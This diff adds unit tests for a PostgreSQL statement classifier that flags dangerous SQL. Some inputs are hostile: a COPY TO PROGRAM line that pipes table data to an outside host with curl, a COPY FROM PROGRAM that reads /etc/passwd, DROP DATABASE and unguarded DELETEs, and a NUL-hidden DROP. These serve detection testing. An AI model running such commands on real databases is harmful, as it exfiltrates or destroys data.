@@ -1,0 +1,509 @@
+"""
+Tests for L{gatehouse.protocols.postgres.statements}: statement kinds,
+relations, functions and flags as PostgreSQL's own parser sees them,
+whatever the spelling; the cache; fingerprints.
+"""
+
+from __future__ import annotations
+
+from twisted.trial.unittest import SynchronousTestCase
+
+from gatehouse.protocols.postgres.statements import (
+    UNPARSEABLE,
+    Statement,
+    StatementCache,
+    classify,
+    fingerprint,
+)
+
+
+class ClassifyTestsMixin:
+    """Helpers shared by the classification tests."""
+
+    def one(self, sql: str) -> Statement:
+        """Classify C{sql}, which must hold exactly one statement."""
+        statements = classify(sql)
+        self.assertEqual(len(statements), 1, statements)
+        return statements[0]
+
+
+class DataStatementTests(ClassifyTestsMixin, SynchronousTestCase):
+    """SELECT, INSERT, UPDATE, DELETE, MERGE."""
+
+    def test_select(self):
+        """A SELECT reports its relations, qualified as written, in order."""
+        s = self.one(
+            'SELECT a FROM public.users u JOIN "Orders" o ON true, users WHERE x = 1'
+        )
+        self.assertEqual(s.kind, "SelectStmt")
+        self.assertEqual(s.relations, ("public.users", "Orders", "users"))
+        self.assertIsNone(s.has_where)
+        self.assertIsNone(s.object_kind)
+        self.assertIsNone(s.explain_of)
+        self.assertFalse(s.copy_program)
+        self.assertIsNone(s.error)
+        self.assertTrue(s.parseable)
+
+    def test_catalog_qualified(self):
+        """A three-part name keeps all three parts."""
+        self.assertEqual(self.one("SELECT * FROM db.s.t").relations, ("db.s.t",))
+
+    def test_deduplicated(self):
+        """A relation named twice is reported once."""
+        s = self.one("SELECT * FROM t a JOIN t b ON a.id = b.id")
+        self.assertEqual(s.relations, ("t",))
+
+    def test_subqueries(self):
+        """Relations inside subqueries in any clause are found."""
+        s = self.one(
+            "SELECT (SELECT max(x) FROM t2) FROM t"
+            " WHERE EXISTS (SELECT 1 FROM t3) AND y IN (SELECT y FROM s.t4)"
+        )
+        self.assertEqual(s.relations, ("t2", "t", "t3", "s.t4"))
+        self.assertEqual(s.functions, ("max",))
+
+    def test_insert(self):
+        """INSERT reports its target; INSERT ... SELECT its source too."""
+        s = self.one("INSERT INTO t (a) VALUES (1)")
+        self.assertEqual(
+            (s.kind, s.relations, s.has_where), ("InsertStmt", ("t",), None)
+        )
+        s = self.one("INSERT INTO s.t SELECT * FROM u")
+        self.assertEqual(s.relations, ("s.t", "u"))
+
+    def test_update(self):
+        """UPDATE with and without WHERE; UPDATE ... FROM reports both."""
+        s = self.one("UPDATE t SET a = 1")
+        self.assertEqual(
+            (s.kind, s.relations, s.has_where), ("UpdateStmt", ("t",), False)
+        )
+        s = self.one("UPDATE t SET a = 1 FROM u WHERE t.id = u.id")
+        self.assertEqual((s.relations, s.has_where), (("t", "u"), True))
+
+    def test_delete(self):
+        """DELETE with and without WHERE; DELETE ... USING reports both."""
+        s = self.one("DELETE FROM t")
+        self.assertEqual(
+            (s.kind, s.relations, s.has_where), ("DeleteStmt", ("t",), False)
+        )
+        s = self.one("delete from public.t where id = 3")
+        self.assertEqual((s.relations, s.has_where), (("public.t",), True))
+        s = self.one("DELETE FROM t USING u")
+        self.assertEqual((s.relations, s.has_where), (("t", "u"), False))
+
+    def test_where_current_of(self):
+        """WHERE CURRENT OF is a WHERE clause."""
+        self.assertTrue(self.one("DELETE FROM t WHERE CURRENT OF c").has_where)
+
+    def test_merge(self):
+        """MERGE reports target and source; its DELETE is no DeleteStmt."""
+        s = self.one("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE")
+        self.assertEqual(
+            (s.kind, s.relations, s.has_where), ("MergeStmt", ("t", "s"), None)
+        )
+
+
+class UtilityStatementTests(ClassifyTestsMixin, SynchronousTestCase):
+    """DROP, TRUNCATE, ALTER, GRANT, CREATE, COPY, DO, CALL."""
+
+    def test_drop_table(self):
+        """DROP TABLE names its tables; the object type is known."""
+        s = self.one("DROP TABLE users")
+        self.assertEqual(s.kind, "DropStmt")
+        self.assertEqual(s.relations, ("users",))
+        self.assertEqual(s.object_kind, "OBJECT_TABLE")
+        self.assertIsNone(s.has_where)
+
+    def test_drop_spellings(self):
+        """
+        Comments, case, quoting, IF EXISTS, CASCADE and several tables do
+        not hide a DROP TABLE or its targets.
+        """
+        for sql, relations in [
+            ('dRoP/**/TaBlE "Users"', ("Users",)),
+            (
+                "DROP TABLE IF EXISTS public.users, s.t2 CASCADE",
+                ("public.users", "s.t2"),
+            ),
+            ("  drop\n\ttable -- comment\n users ;", ("users",)),
+            ('DROP TABLE "My""T", "a.b"', ('My"T', "a.b")),
+            ("DROP TABLE USERS", ("users",)),
+            ("/* x */ DROP TABLE db.s.t", ("db.s.t",)),
+        ]:
+            s = self.one(sql)
+            self.assertEqual(
+                (s.kind, s.object_kind, s.relations),
+                ("DropStmt", "OBJECT_TABLE", relations),
+                sql,
+            )
+
+    def test_drop_other_objects(self):
+        """Other DROPs name their objects and say their type."""
+        for sql, kind, relations in [
+            ("DROP VIEW v", "OBJECT_VIEW", ("v",)),
+            ("DROP INDEX CONCURRENTLY s.i", "OBJECT_INDEX", ("s.i",)),
+            ("DROP SCHEMA s CASCADE", "OBJECT_SCHEMA", ("s",)),
+            ("DROP FUNCTION f(int)", "OBJECT_FUNCTION", ("f",)),
+            ("DROP TYPE s.foo, bar", "OBJECT_TYPE", ("s.foo", "bar")),
+        ]:
+            s = self.one(sql)
+            self.assertEqual(
+                (s.kind, s.object_kind, s.relations), ("DropStmt", kind, relations)
+            )
+
+    def test_drop_database(self):
+        """DROP DATABASE is its own statement kind."""
+        self.assertEqual(self.one("DROP DATABASE prod").kind, "DropdbStmt")
+
+    def test_truncate(self):
+        """TRUNCATE names its tables as OBJECT_TABLE."""
+        s = self.one("TRUNCATE a, s.b RESTART IDENTITY")
+        self.assertEqual(
+            (s.kind, s.object_kind, s.relations),
+            ("TruncateStmt", "OBJECT_TABLE", ("a", "s.b")),
+        )
+
+    def test_alter_table(self):
+        """ALTER TABLE names its table; a rename is a RenameStmt."""
+        s = self.one("ALTER TABLE s.t ADD COLUMN c int")
+        self.assertEqual(
+            (s.kind, s.object_kind, s.relations),
+            ("AlterTableStmt", "OBJECT_TABLE", ("s.t",)),
+        )
+        s = self.one("ALTER TABLE t RENAME TO u")
+        self.assertEqual(
+            (s.kind, s.object_kind, s.relations), ("RenameStmt", "OBJECT_TABLE", ("t",))
+        )
+
+    def test_grant_revoke(self):
+        """GRANT and REVOKE name their objects, relations or not."""
+        s = self.one("GRANT SELECT, INSERT ON public.t, u TO bob")
+        self.assertEqual(
+            (s.kind, s.object_kind, s.relations),
+            ("GrantStmt", "OBJECT_TABLE", ("public.t", "u")),
+        )
+        s = self.one("REVOKE ALL ON t FROM bob")
+        self.assertEqual((s.kind, s.relations), ("GrantStmt", ("t",)))
+        s = self.one("GRANT ALL ON ALL TABLES IN SCHEMA s TO bob")
+        self.assertEqual((s.object_kind, s.relations), ("OBJECT_TABLE", ("s",)))
+        s = self.one("GRANT USAGE ON SCHEMA s TO bob")
+        self.assertEqual((s.object_kind, s.relations), ("OBJECT_SCHEMA", ("s",)))
+        self.assertEqual(self.one("GRANT admin TO bob").kind, "GrantRoleStmt")
+
+    def test_create(self):
+        """CREATE TABLE, CREATE TABLE AS and CREATE INDEX name their relations."""
+        s = self.one("CREATE TABLE s.t (id int REFERENCES u (id))")
+        self.assertEqual((s.kind, s.relations), ("CreateStmt", ("s.t", "u")))
+        s = self.one("CREATE TABLE x AS SELECT * FROM y")
+        self.assertEqual(
+            (s.kind, s.relations, s.object_kind),
+            ("CreateTableAsStmt", ("y", "x"), "OBJECT_TABLE"),
+        )
+        s = self.one("CREATE INDEX i ON t (a)")
+        self.assertEqual((s.kind, s.relations), ("IndexStmt", ("t",)))
+
+    def test_copy_program(self):
+        """COPY ... TO/FROM PROGRAM is flagged; plain COPY is not."""
+        s = self.one("COPY t TO PROGRAM 'curl -d @- http://x'")
+        self.assertEqual(
+            (s.kind, s.relations, s.copy_program), ("CopyStmt", ("t",), True)
+        )
+        self.assertTrue(self.one("copy t from program 'cat /etc/passwd'").copy_program)
+        self.assertFalse(self.one("COPY t TO STDOUT").copy_program)
+        self.assertFalse(self.one("COPY t FROM '/tmp/x'").copy_program)
+
+    def test_copy_query(self):
+        """A DELETE inside COPY (...) shows."""
+        s = self.one("COPY (DELETE FROM t RETURNING *) TO STDOUT")
+        self.assertEqual(
+            (s.kind, s.relations, s.has_where, s.nested),
+            ("CopyStmt", ("t",), False, ("DeleteStmt",)),
+        )
+
+    def test_do(self):
+        """A DO block is a DoStmt (its body is opaque PL/pgSQL)."""
+        s = self.one("DO $$BEGIN PERFORM pg_sleep(1); END$$")
+        self.assertEqual((s.kind, s.relations, s.functions), ("DoStmt", (), ()))
+
+    def test_call(self):
+        """CALL reports the procedure and the functions in its arguments."""
+        s = self.one("CALL myproc(pg_sleep(1))")
+        self.assertEqual((s.kind, s.functions), ("CallStmt", ("myproc", "pg_sleep")))
+
+    def test_transaction(self):
+        """Transaction control has its own kind and touches nothing."""
+        s = self.one("BEGIN")
+        self.assertEqual(
+            (s.kind, s.relations, s.functions), ("TransactionStmt", (), ())
+        )
+
+
+class FunctionTests(ClassifyTestsMixin, SynchronousTestCase):
+    """Function calls anywhere in a statement."""
+
+    def test_select_function(self):
+        """SELECT pg_sleep(1) calls pg_sleep."""
+        s = self.one("SELECT pg_sleep(1)")
+        self.assertEqual(
+            (s.kind, s.functions, s.relations), ("SelectStmt", ("pg_sleep",), ())
+        )
+
+    def test_qualified(self):
+        """A qualified call keeps its schema, as written."""
+        s = self.one(
+            "SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity"
+        )
+        self.assertEqual(s.functions, ("pg_catalog.pg_terminate_backend",))
+        self.assertEqual(s.relations, ("pg_stat_activity",))
+
+    def test_in_from_and_where(self):
+        """Functions in FROM, WHERE and nested calls are all found."""
+        s = self.one(
+            "SELECT * FROM generate_series(1, 3) g WHERE lower(upper(x)) = 'a'"
+        )
+        self.assertEqual(s.functions, ("generate_series", "lower", "upper"))
+
+
+class WrapperTests(ClassifyTestsMixin, SynchronousTestCase):
+    """Statements inside EXPLAIN, PREPARE and CTEs cannot hide."""
+
+    def test_explain_analyze_delete(self):
+        """EXPLAIN ANALYZE DELETE FROM t shows the DELETE, its table and no WHERE."""
+        s = self.one("EXPLAIN ANALYZE DELETE FROM t")
+        self.assertEqual(s.kind, "ExplainStmt")
+        self.assertEqual(s.explain_of, "DeleteStmt")
+        self.assertEqual(s.relations, ("t",))
+        self.assertIs(s.has_where, False)
+        self.assertEqual(s.nested, ("DeleteStmt",))
+
+    def test_explain_select(self):
+        """EXPLAIN SELECT: the wrapped kind, no DELETE/UPDATE flag."""
+        s = self.one("EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM t WHERE a = 1")
+        self.assertEqual(
+            (s.explain_of, s.relations, s.has_where), ("SelectStmt", ("t",), None)
+        )
+
+    def test_explain_create_table_as(self):
+        """EXPLAIN of CREATE TABLE AS takes the object type of the inner statement."""
+        s = self.one("EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1")
+        self.assertEqual(
+            (s.explain_of, s.object_kind), ("CreateTableAsStmt", "OBJECT_TABLE")
+        )
+
+    def test_prepare(self):
+        """PREPARE ... AS UPDATE shows the UPDATE like EXPLAIN does."""
+        s = self.one("PREPARE p AS UPDATE t SET a = $1")
+        self.assertEqual(
+            (s.kind, s.explain_of, s.relations, s.has_where),
+            ("PrepareStmt", "UpdateStmt", ("t",), False),
+        )
+
+    def test_cte_delete(self):
+        """
+        A DELETE in a CTE shows: its table, no WHERE, and the nested kind;
+        the CTE's own name is not a relation.
+        """
+        s = self.one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d")
+        self.assertEqual(s.kind, "SelectStmt")
+        self.assertEqual(s.relations, ("t",))
+        self.assertIs(s.has_where, False)
+        self.assertEqual(s.nested, ("DeleteStmt",))
+
+    def test_has_where_everywhere(self):
+        """has_where is False if any DELETE/UPDATE in the statement lacks one."""
+        s = self.one(
+            "WITH d AS (DELETE FROM t RETURNING id)"
+            " DELETE FROM u WHERE id IN (SELECT id FROM d)"
+        )
+        self.assertEqual((s.kind, s.has_where), ("DeleteStmt", False))
+        s = self.one(
+            "WITH d AS (UPDATE t SET a = 1 WHERE b RETURNING id) SELECT * FROM d"
+        )
+        self.assertIs(s.has_where, True)
+
+    def test_cte_scoping(self):
+        """
+        Only names a CTE puts in scope are left out: a non-recursive CTE
+        reading a table of its own name, a CTE inside a subquery, and
+        qualified names all refer to tables.
+        """
+        self.assertEqual(
+            self.one("WITH t AS (SELECT * FROM t) SELECT * FROM t").relations, ("t",)
+        )
+        self.assertEqual(
+            self.one(
+                "SELECT * FROM (WITH q AS (SELECT 1) SELECT * FROM q) s, q"
+            ).relations,
+            ("q",),
+        )
+        self.assertEqual(
+            self.one("WITH t AS (SELECT 1) SELECT * FROM t, public.t").relations,
+            ("public.t",),
+        )
+        self.assertEqual(
+            self.one(
+                "WITH RECURSIVE r AS (SELECT 1 UNION SELECT * FROM r)"
+                " SELECT * FROM r, x"
+            ).relations,
+            ("x",),
+        )
+
+    def test_cte_name_as_target(self):
+        """A DML target is a table even when a CTE has its name."""
+        s = self.one("WITH users AS (SELECT 1) DELETE FROM users")
+        self.assertEqual((s.relations, s.has_where), (("users",), False))
+
+
+class TextTests(ClassifyTestsMixin, SynchronousTestCase):
+    """Splitting, text slices, empty and unparseable input."""
+
+    def test_multi_statement(self):
+        """Each statement of a string comes back with its own text."""
+        statements = classify(
+            "  /* c */ SELECT 1 ; \n-- x\n  DROP TABLE t;DELETE FROM u"
+        )
+        self.assertEqual(
+            [(s.kind, s.text) for s in statements],
+            [
+                ("SelectStmt", "SELECT 1"),
+                ("DropStmt", "DROP TABLE t"),
+                ("DeleteStmt", "DELETE FROM u"),
+            ],
+        )
+        self.assertEqual(statements[2].has_where, False)
+
+    def test_non_ascii_offsets(self):
+        """Text slices are right after multi-byte characters (offsets are bytes)."""
+        statements = classify("SELECT 'é€'; SELECT * FROM \"tä\"; DROP TABLE x")
+        self.assertEqual(
+            [s.text for s in statements],
+            ["SELECT 'é€'", 'SELECT * FROM "tä"', "DROP TABLE x"],
+        )
+        self.assertEqual(statements[1].relations, ("tä",))
+
+    def test_empty(self):
+        """Empty, blank, comment-only and bare semicolons give no statement."""
+        for sql in ("", "   \n\t", "-- only a comment", "/* x */", ";;"):
+            self.assertEqual(classify(sql), (), repr(sql))
+
+    def test_unparseable(self):
+        """Text the grammar rejects is one Unparseable statement with the error."""
+        for sql in (
+            "SELEC 1",
+            "SELECT 1; selec 2",
+            "SELECT 'unterminated",
+            "DROP TABLE",
+        ):
+            (s,) = classify(sql)
+            self.assertEqual(s.kind, UNPARSEABLE)
+            self.assertEqual(s.text, sql)
+            self.assertIsInstance(s.error, str)
+            self.assertFalse(s.parseable)
+            self.assertEqual(s.relations, ())
+        (s,) = classify("SELEC 1")
+        self.assertIn('syntax error at or near "SELEC"', s.error)
+
+    def test_nul(self):
+        """A NUL would hide what follows from the parser: unparseable."""
+        (s,) = classify("SELECT 1\0; DROP TABLE t")
+        self.assertEqual(s.kind, UNPARSEABLE)
+
+    def test_invalid_encoding(self):
+        """Bytes invalid in the client encoding (lone surrogates) are unparseable."""
+        (s,) = classify("SELECT '\udcff'")
+        self.assertEqual(s.kind, UNPARSEABLE)
+        self.assertIn("encoding", s.error)
+
+    def test_too_deep(self):
+        """Nesting too deep to walk is unparseable, not an exception."""
+        sql = "SELECT " + "+".join(["1"] * 3000) + " FROM t"
+        (s,) = classify(sql)
+        self.assertEqual(s.kind, UNPARSEABLE)
+        self.assertIn("nested", s.error)
+
+    def test_statement_defaults(self):
+        """Statement can be built with just a kind and text."""
+        s = Statement(kind=UNPARSEABLE, text="x", error="bad")
+        self.assertEqual((s.relations, s.functions, s.copy_program), ((), (), False))
+
+
+class FingerprintTests(SynchronousTestCase):
+    """libpg_query fingerprints."""
+
+    def test_constants_ignored(self):
+        """Statements differing only in constants, case and spacing match."""
+        self.assertEqual(
+            fingerprint("SELECT * FROM t WHERE a = 5 AND b = 'x'"),
+            fingerprint("select *  from t where a = 77 and b = 'yy'"),
+        )
+
+    def test_different(self):
+        """Different tables or kinds differ."""
+        self.assertNotEqual(
+            fingerprint("SELECT * FROM t"), fingerprint("SELECT * FROM u")
+        )
+        self.assertNotEqual(
+            fingerprint("DELETE FROM t"), fingerprint("SELECT * FROM t")
+        )
+
+    def test_unparseable(self):
+        """Unparseable text has no fingerprint."""
+        self.assertIsNone(fingerprint("SELEC 1"))
+        self.assertIsNone(fingerprint("SELECT '\udcff'"))
+        self.assertIsNone(fingerprint("SELECT 1\0"))
+
+
+class StatementCacheTests(SynchronousTestCase):
+    """The LRU cache of classifications."""
+
+    def test_hits_and_misses(self):
+        """The first lookup of a text misses, later ones hit, same result."""
+        cache = StatementCache()
+        first = cache.classify("SELECT * FROM t")
+        second = cache.classify("SELECT * FROM t")
+        self.assertIs(first, second)
+        self.assertEqual((cache.hits, cache.misses), (1, 1))
+        cache.classify("SELECT * FROM  t")
+        self.assertEqual((cache.hits, cache.misses), (1, 2))
+        self.assertEqual(len(cache), 2)
+
+    def test_lru_eviction(self):
+        """The least recently used text goes first."""
+        cache = StatementCache(size=2)
+        cache.classify("SELECT 1")
+        cache.classify("SELECT 2")
+        cache.classify("SELECT 1")  # now most recent
+        cache.classify("SELECT 3")  # evicts SELECT 2
+        self.assertEqual(len(cache), 2)
+        cache.classify("SELECT 1")
+        self.assertEqual(cache.hits, 2)
+        cache.classify("SELECT 2")
+        self.assertEqual(cache.misses, 4)
+
+    def test_unparseable_cached(self):
+        """Unparseable results are cached too."""
+        cache = StatementCache()
+        cache.classify("SELEC 1")
+        (s,) = cache.classify("SELEC 1")
+        self.assertEqual((s.kind, cache.hits), (UNPARSEABLE, 1))
+
+    def test_long_text_not_kept(self):
+        """Texts over max_text are classified but not kept."""
+        cache = StatementCache(max_text=20)
+        sql = "SELECT * FROM a_rather_long_table_name"
+        self.assertEqual(
+            cache.classify(sql)[0].relations, ("a_rather_long_table_name",)
+        )
+        cache.classify(sql)
+        self.assertEqual((cache.hits, cache.misses, len(cache)), (0, 2, 0))
+
+    def test_clear(self):
+        """clear() empties the cache."""
+        cache = StatementCache()
+        cache.classify("SELECT 1")
+        cache.clear()
+        self.assertEqual(len(cache), 0)
+
+    def test_bad_size(self):
+        """A cache must hold at least one entry."""
+        self.assertRaises(ValueError, StatementCache, 0)
